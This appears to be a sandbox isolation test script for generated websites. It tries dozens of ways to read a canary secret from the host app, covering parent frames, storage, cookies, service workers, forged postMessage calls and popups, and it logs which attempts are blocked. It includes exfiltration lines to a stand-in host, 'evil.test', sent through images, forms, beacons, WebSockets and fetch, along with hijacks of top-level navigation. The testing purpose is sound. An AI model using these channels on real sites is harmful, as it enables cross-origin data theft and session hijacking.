// Runs inside a generated site and tries everything to reach the app. Each attempt answers what it read, or throws.
// Put together here, so that the script does not find itself in its own page.
const secret = ['CAN', 'ARY'].join('');
const asText = (value) => (typeof value === 'string' ? value : JSON.stringify(value)) ?? '';

// The page's own copies were replaced; a frame without an address has the browser's.
const fresh = document.createElement('iframe');
document.documentElement.append(fresh);
const native = fresh.contentWindow ?? window;

const ask = (request) =>
  new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error ?? new Error('refused'));
  });

async function readDatabase(factory) {
  const database = await ask(factory.open('canary'));
  return ask(database.transaction('keys').objectStore('keys').getAll());
}

async function frameText(make) {
  const frame = document.createElement('iframe');
  make(frame);
  document.body.append(frame);
  await new Promise((resolve) => {
    frame.onload = resolve;
    setTimeout(resolve, 700);
  });
  return frame.contentDocument?.documentElement.outerHTML ?? Promise.reject(new Error('no document'));
}

function inWorker(source) {
  const worker = new native.Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
  return new Promise((resolve, reject) => {
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => reject(new Error('worker failed'));
    setTimeout(() => reject(new Error('no answer')), 900);
  });
}

const own = (name) => Object.getOwnPropertyDescriptor(native, name)?.get?.call(window);

const attempts = {
  'parent document': () => parent.document.documentElement.outerHTML,
  'top document': () => top.document.documentElement.outerHTML,
  'opener document': () => window.opener.document.documentElement.outerHTML,
  'parent variables': () => parent.canary,
  'frame element': () => window.frameElement.ownerDocument.documentElement.outerHTML,
  'parent frames': () => parent.frames[0].parent.localStorage.getItem('canary'),
  'database of the page': () => readDatabase(own('indexedDB') ?? window.indexedDB),
  'database of a fresh frame': () => readDatabase(native.indexedDB),
  'list of databases': async () => asText(await native.indexedDB.databases()),
  'local storage': () => (own('localStorage') ?? window.localStorage).getItem('canary'),
  'local storage of a fresh frame': () => native.localStorage.getItem('canary'),
  'session storage of a fresh frame': () => native.sessionStorage.getItem('canary'),
  cookie: () => Object.getOwnPropertyDescriptor(native.Document.prototype, 'cookie').get.call(document),
  'cookie of a fresh frame': () => native.document.cookie,
  'cookie store': async () => asText(await native.cookieStore.getAll()),
  'cache names': async () => asText(await native.caches.keys()),
  'cache content': async () => (await (await native.caches.open('canary')).match('/canary')).text(),
  'private files': async () => {
    const folder = await native.navigator.storage.getDirectory();
    return (await (await folder.getFileHandle('canary')).getFile()).text();
  },
  'web locks': async () => asText(await native.navigator.locks.query()),
  'broadcast channel': () =>
    new Promise((resolve, reject) => {
      const channel = new native.BroadcastChannel('canary');
      channel.onmessage = ({ data }) => resolve(data);
      channel.postMessage('give');
      setTimeout(() => reject(new Error('silence')), 700);
    }),
  'register the app worker': async () =>
    `${secret} ${(await native.navigator.serviceWorker.register('/sw.js')).scope}`,
  'register a worker of the site': async () =>
    `${secret} ${(await native.navigator.serviceWorker.register('evil-sw.js')).scope}`,
  'list of registrations': async () => {
    const found = await native.navigator.serviceWorker.getRegistrations();
    return found.length > 0 ? secret : '';
  },
  'fetch the api': async () => (await native.fetch('/api/projects')).text(),
  'fetch the app': async () => (await native.fetch('/')).text(),
  'fetch without credentials': async () => (await native.fetch('/', { mode: 'no-cors' })).text(),
  'xhr the api': () =>
    new Promise((resolve, reject) => {
      const request = new native.XMLHttpRequest();
      request.onload = () => resolve(request.responseText);
      request.onerror = () => reject(new Error('refused'));
      request.open('GET', '/api/projects');
      request.send();
    }),
  'frame of the app': () => frameText((frame) => (frame.src = '/')),
  'frame of the own project': () => frameText((frame) => (frame.src = 'index.html')),
  'frame with text and same origin': () =>
    frameText((frame) => {
      frame.setAttribute('sandbox', 'allow-scripts allow-same-origin');
      frame.srcdoc = `<p id="x"></p><script>document.documentElement.dataset.x = (() => { try { return localStorage.getItem('canary') } catch (error) { return error.name } })()</script>`;
    }),
  'frame from a data address': () =>
    frameText(
      (frame) =>
        (frame.src = 'data:text/html,<script>document.write(localStorage.getItem("canary"))</script>'),
    ),
  'object element': () =>
    new Promise((resolve, reject) => {
      const element = document.createElement('object');
      element.data = '/';
      document.body.append(element);
      setTimeout(() => {
        const text = element.contentDocument?.documentElement.outerHTML;
        if (text) resolve(text);
        else reject(new Error('nothing'));
      }, 500);
    }),
  popup: async () => {
    const opened = window.open('/', 'canary-popup');
    await new Promise((resolve) => setTimeout(resolve, 700));
    const text = opened.document.documentElement.outerHTML;
    opened.close();
    return text;
  },
  'popup without an address': () => {
    const opened = window.open('about:blank', 'canary-blank');
    const text = opened.localStorage.getItem('canary');
    opened.close();
    return text;
  },
  'worker database': () =>
    inWorker(
      `const request = indexedDB.open('canary'); request.onsuccess = () => { const all = request.result.transaction('keys').objectStore('keys').getAll(); all.onsuccess = () => postMessage(JSON.stringify(all.result)); }; request.onerror = () => postMessage('refused');`,
    ),
  'worker fetch': () =>
    inWorker(
      `fetch(${JSON.stringify(new URL('/api/projects', location.href).href)}).then((r) => r.text()).then(postMessage, () => postMessage('refused'))`,
    ),
  'worker import': () =>
    inWorker(
      `try { importScripts(${JSON.stringify(new URL('/lab.js', location.href).href)}); postMessage(['CAN', 'ARY'].join('') + ' imported') } catch (error) { postMessage(error.name) }`,
    ),
  'shared worker': () => {
    const worker = new native.SharedWorker('/lab.js');
    return worker.port ? '' : '';
  },
  'forged message to the app': () => {
    for (const kind of ['sitewright-hello', 'pick', 'storage', 'read', 'skip-waiting']) {
      parent.postMessage({ kind, nonce: 'x', path: '../p2/index.html', id: 1, identifier: 'forged' }, '*');
      parent.postMessage({ kind, nonce: '' }, '*', [new MessageChannel().port2]);
    }
    return '';
  },
  'message to the service worker': () => {
    native.navigator.serviceWorker.controller.postMessage({ kind: 'skip-waiting' });
    return secret;
  },
  'top navigation': () => {
    // In a tab of its own the page is the top: that it may leave its own tab is no reach into another.
    if (top === window) return '';
    top.location.href = 'https://evil.test/top';
    return '';
  },
  'opener navigation': () => {
    window.opener.location.href = 'https://evil.test/opener';
    return '';
  },
  'requests to other hosts': async () => {
    const url = 'https://evil.test/leak?';
    new Image().src = `${url}img`;
    document.body.insertAdjacentHTML(
      'beforeend',
      `<img src="${url}a"><link rel="stylesheet" href="${url}b"><link rel="prefetch" href="${url}c"><style>@import "${url}d";p{background:url(${url}e)}</style><video src="${url}f"></video><object data="${url}g"></object><embed src="${url}h"><iframe src="${url}i"></iframe><form id="leak" action="${url}j" method="post"></form>`,
    );
    document.getElementById('leak').submit();
    native.navigator.sendBeacon(`${url}k`, 'x');
    new native.EventSource(`${url}l`);
    await import(`${url}m`).catch(() => undefined);
    try {
      new native.WebSocket('wss://evil.test/leak');
    } catch {
      // refused at once
    }
    const script = document.createElement('script');
    script.src = `${url}n`;
    document.body.append(script);
    return (await native.fetch(`${url}o`)).text();
  },
};

const results = {};
window.isolationSoFar = results;
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    const text = asText(await attempt());
    results[name] = text.includes(secret) ? `READ ${text.slice(0, 80)}` : 'nothing';
  } catch (error) {
    results[name] = `blocked: ${error?.name ?? error}`;
  }
}
window.isolation = results;
document.title = 'done';
